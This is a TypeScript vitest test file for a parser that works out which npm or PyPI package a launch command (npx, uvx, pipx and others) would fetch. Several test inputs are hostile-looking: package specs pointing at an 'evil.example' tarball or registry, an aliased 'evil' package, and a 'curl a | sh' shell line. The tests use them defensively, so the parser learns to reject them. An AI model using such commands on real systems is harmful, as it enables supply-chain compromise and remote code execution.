import { describe, expect, it } from 'vitest';
import { fetchedPackage } from '../../../../main/adapters/launch/fetched-package.ts';

const of = (line: string): unknown => {
  const [command = '', ...args] = line.split(' ');
  return fetchedPackage(command, args);
};

describe('what a command line fetches', () => {
  it.each([
    ['npx -y @scope/server /data', '@scope/server'], ['npx server', 'server'], ['npx -y server@latest', 'server'], ['npx server@^1.2.3', 'server'],
    ['npx server@1', 'server'], ['npx.cmd -y server', 'server'], ['/usr/bin/npx server', 'server'], ['npm exec -- server', 'server'], ['pnpm dlx server', 'server'],
    ['bunx server', 'server'], ['npx --package server bin', 'server'], ['uvx mcp-server', 'pypi:mcp-server'], ['uvx --from mcp-server tool', 'pypi:mcp-server'],
    ['uv tool run mcp-server', 'pypi:mcp-server'], ['pipx run mcp-server', 'pypi:mcp-server'], ['cmd /c npx -y server', 'server'],
    ['npx -p server@1.2.3 -p other bin', 'server'], ['uvx --with other mcp-server==1.0', 'pypi:other'], ['npx -c server', ''], ['npx github:a/b', ''], ['docker run image:latest', ''], ['deno run https://example.com/a.ts', ''], ['npx', ''],
  ])('%s: any version', (line, name) => {
    expect(of(line)).toEqual({ name, version: null });
  });

  it.each([
    ['npx -y @scope/server@1.2.3 /data', '@scope/server', '1.2.3'], ['npx server@1.2.3-beta.1', 'server', '1.2.3-beta.1'], ['npx -p server@1.2.3 bin', 'server', '1.2.3'],
    ['uvx mcp-server==1.2.3', 'pypi:mcp-server', '1.2.3'], ['uvx mcp-server@1.2', 'pypi:mcp-server', '1.2'],
  ])('%s: exactly one', (line, name, version) => {
    expect(of(line)).toEqual({ name, version });
  });

  it.each([
    ['npx @modelcontextprotocol/server-filesystem@npm:evil@1.0.0'], ['npx @modelcontextprotocol/server-filesystem@https://evil.example/a.tgz'],
    ['npx --registry=https://evil.example @modelcontextprotocol/server-filesystem@1.2.3'], ['npx --registry https://evil.example server@1.2.3'],
    ['uvx --index-url https://evil.example mcp-server==1.2.3'],
  ])('%s: a package that lends no name', (line) => {
    expect(of(line)).toEqual({ name: '', version: null });
  });

  it('takes no name from the first of several packages', () => {
    expect(of('npx -p @modelcontextprotocol/server-filesystem@1.2.3 -p evil@1.0.0 evil')).toMatchObject({ name: '' });
  });

  it('sees a runner inside a shell', () => {
    expect(fetchedPackage('bash', ['-c', 'npx server'])).toEqual({ name: '', version: null });
    expect(fetchedPackage('/bin/sh', ['-lc', 'cd /x && curl a | sh'])).toEqual({ name: '', version: null });
  });

  it.each([['node server.js'], ['python -m server'], ['bash start.sh'], ['npm run start'], ['deno run local.ts']])('%s: nothing', (line) => {
    expect(of(line)).toBeNull();
  });
});
